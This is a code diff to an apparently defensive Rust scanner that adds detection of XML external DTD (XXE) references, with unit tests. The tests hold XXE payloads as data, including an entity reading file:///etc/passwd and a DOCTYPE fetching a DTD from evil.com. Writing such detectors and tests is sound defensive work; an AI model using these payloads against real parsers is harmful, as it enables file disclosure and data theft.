@@ -12,6 +12,22 @@ pub fn check(t: &Target<'_>) -> Option<Hit> {
     if let Some(at) = external_reference(s) {
         return Some(Hit::new(2603, High, "XML: schema or XInclude fetched from a URL", at));
     }
+    // `<!DOCTYPE data SYSTEM "http://…/x.dtd">`: an external DTD, fetched
+    // before any entity is declared.
+    // The model hands an XML body's DOCTYPE over as its own value.
+    let doctype = find(s, b"<!doctype").or_else(|| (t.source == Source::Xml && t.key == "!DOCTYPE").then_some(0));
+    if let Some(at) = doctype {
+        let decl = &s[at..(at + 512).min(s.len())];
+        let id = find(decl, b"system").or_else(|| find(decl, b"public"));
+        // The W3C's own DTD URLs (XHTML doctypes) are identifiers browsers
+        // and sane parsers never fetch.
+        if let Some(id) = id
+            && [&b"http:"[..], b"https:", b"ftp:", b"file:", b"gopher:", b"jar:"].iter().any(|u| find(&decl[id..], u).is_some())
+            && find(&decl[id..], b"w3.org").is_none()
+        {
+            return Some(Hit::new(2601, High, "XXE: external DTD", at));
+        }
+    }
     let at = find(s, b"!entity").or_else(|| (t.source == Source::Xml && t.key == "!DOCTYPE").then(|| find(s, b"entity")).flatten())?;
     let decl = &s[at..];
     if find(decl, b"system").is_some() || find(decl, b"public").is_some() || find(decl, b"% ").is_some() {
@@ -52,6 +68,12 @@ mod tests {
     fn entities_and_external_references() {
         assert_eq!(conf("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"), Some(High));
         assert_eq!(conf("foo!ENTITY % bar SYSTEM"), Some(High));
+        assert_eq!(conf("<?xml version=\"1.0\"?><!DOCTYPE data SYSTEM \"http://evil.com/x.dtd\"><data>1</data>"), Some(High));
+        assert_eq!(conf("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\">"), None);
+        assert_eq!(
+            conf("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"),
+            None
+        );
         assert_eq!(
             conf(
                 "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://oast.example/x.xsd\">"
